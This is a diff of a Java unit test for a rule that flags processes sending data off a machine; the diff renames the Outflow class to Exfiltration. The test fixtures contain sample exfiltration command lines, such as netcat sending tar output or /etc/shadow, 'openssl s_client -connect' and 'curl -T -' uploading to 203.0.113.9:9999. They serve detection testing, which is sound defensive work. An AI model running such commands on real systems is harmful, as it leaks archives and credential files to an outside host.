@@ -5,7 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import io.totem.policy.facts.Behaviour;
 import io.totem.policy.facts.Relations;
-import io.totem.policy.facts.Relations.Outflow;
+import io.totem.policy.facts.Relations.Exfiltration;
 import io.totem.policy.port.Severity;
 import io.totem.policy.testing.SampleBuilder;
 import io.totem.policy.testing.Scene;
@@ -21,7 +21,7 @@ class SendsDataRuleTest {
 
     @Test
     void an_archive_on_its_way_to_another_machine_is_a_caution() {
-        assertThat(told(program("/usr/bin/nc.openbsd").root(), new Outflow("tar", Optional.empty(), OUT)))
+        assertThat(told(program("/usr/bin/nc.openbsd").root(), new Exfiltration("tar", Optional.empty(), OUT)))
                 .hasValueSatisfying(warning -> {
                     assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
                     assertThat(warning.title().en()).isEqualTo("sends what tar gives it to 203.0.113.9:9999");
@@ -31,7 +31,7 @@ class SendsDataRuleTest {
 
     @Test
     void what_is_encrypted_on_the_way_is_not_called_open() {
-        Outflow dump = new Outflow("tar", Optional.empty(), OUT);
+        Exfiltration dump = new Exfiltration("tar", Optional.empty(), OUT);
         for (SampleBuilder sender : List.of(
                 program("/usr/bin/openssl").commandLine("openssl", "s_client", "-connect", "203.0.113.9:9999"),
                 program("/usr/bin/curl").commandLine("curl", "-T", "-", "https://203.0.113.9:9999/"),
@@ -47,19 +47,19 @@ class SendsDataRuleTest {
 
     @Test
     void keys_and_passwords_on_their_way_are_danger_unless_they_are_a_person_s_own() {
-        Outflow shadow = new Outflow("/etc/shadow", Optional.of("/etc/shadow"), OUT);
+        Exfiltration shadow = new Exfiltration("/etc/shadow", Optional.of("/etc/shadow"), OUT);
         assertThat(told(program("/usr/bin/nc.openbsd").root(), shadow)).hasValueSatisfying(warning -> {
             assertThat(warning.severity()).isEqualTo(Severity.DANGER);
             assertThat(warning.why().en()).contains("is or holds /etc/shadow");
         });
-        assertThat(told(program("/usr/bin/nc.openbsd"), new Outflow("tar", Optional.of(".ssh"), OUT)))
+        assertThat(told(program("/usr/bin/nc.openbsd"), new Exfiltration("tar", Optional.of(".ssh"), OUT)))
                 .map(Warning::severity)
                 .contains(Severity.CAUTION);
     }
 
-    private static Optional<Warning> told(SampleBuilder process, Outflow outflow) {
+    private static Optional<Warning> told(SampleBuilder process, Exfiltration exfiltration) {
         return Scene.of(process)
-                .behaviour(Behaviour.NONE.with(Relations.NONE.sending(outflow)))
+                .behaviour(Behaviour.NONE.with(Relations.NONE.sending(exfiltration)))
                 .warning(WarningCode.SENDS_DATA);
     }
 }
